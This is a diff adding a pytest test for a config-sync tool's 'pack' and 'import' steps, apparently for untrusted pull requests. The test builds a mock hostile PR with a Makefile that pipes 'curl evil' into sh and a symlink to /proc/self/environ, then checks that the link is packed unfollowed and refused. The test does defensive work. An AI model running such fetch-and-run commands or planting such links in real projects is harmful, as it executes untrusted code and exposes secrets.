@@ -184,3 +184,39 @@ def test_the_scratch_commit_is_planned_with_mains_settings(
     assert unhidden != config
     result = plan(lambda: [*snapshot.items(), ("configsync.yaml", unhidden)])
     assert result.code == 4, result.out + result.err
+
+
+def test_pack_takes_only_the_config_from_git_and_a_link_stays_a_link_the_import_refuses(
+    main_repo: Path, tmp_path: Path,
+) -> None:
+    """config-pr's side: git archive of HEAD limited to the config paths (the work tree is not read, so an
+    uncommitted file is not packed); a symbolic link is packed as a link entry, never followed, and the
+    import refuses the upload."""
+    pr = tmp_path / "pr"
+    subprocess.run(["git", "clone", "--quiet", str(main_repo), str(pr)], check=True)
+    (pr / "Makefile").write_text("all:\n\tcurl evil | sh\n")
+    (pr / "config-snapshots" / "system_config" / "env.yaml").symlink_to("/proc/self/environ")
+    subprocess.run(["git", "add", "-A"], cwd=pr, check=True)
+    subprocess.run(["git", "-c", "user.name=a", "-c", "user.email=a@b", "commit", "--quiet", "-m", "pr"], cwd=pr, check=True)
+    (pr / "config-snapshots" / "system_config" / "uncommitted.yaml").write_text("x: 1\n")
+    out, output = tmp_path / "data", tmp_path / "output"
+    output.write_text("")
+    env = {k: v for k, v in os.environ.items() if not k.startswith("GITHUB_")}
+    proc = subprocess.run([sys.executable, str(SCRIPT), "pack", "--repo", str(pr), "--out", str(out), "--number", "7",
+                           "--head-sha", HEAD_SHA], capture_output=True, text=True, env={**env, "GITHUB_OUTPUT": str(output)},
+                          check=False)
+    assert proc.returncode == 0, proc.stdout + proc.stderr
+    assert json.loads((out / "pull-request.json").read_text()) == {"number": 7, "head_sha": HEAD_SHA}
+    with tarfile.open(out / "files.tar") as tar:
+        members = {m.name: m for m in tar.getmembers() if not m.isdir()}
+    assert set(members) == {RECORD, "config-snapshots/system_config/env.yaml", "configsync.yaml",
+                            *(f"schemas/{p.name}" for p in (main_repo / "schemas").iterdir())}
+    assert members["config-snapshots/system_config/env.yaml"].issym()
+
+    before = state(main_repo)
+    event_file = tmp_path / "event.json"
+    event_file.write_text(json.dumps(event()))
+    proc = subprocess.run([sys.executable, str(SCRIPT), "import", "--data", str(out), "--repo", str(main_repo),
+                           "--event", str(event_file)], capture_output=True, text=True, env=env, check=False)
+    assert proc.returncode == 1 and "env.yaml: a symbolic link" in proc.stdout, proc.stdout + proc.stderr
+    assert state(main_repo) == before
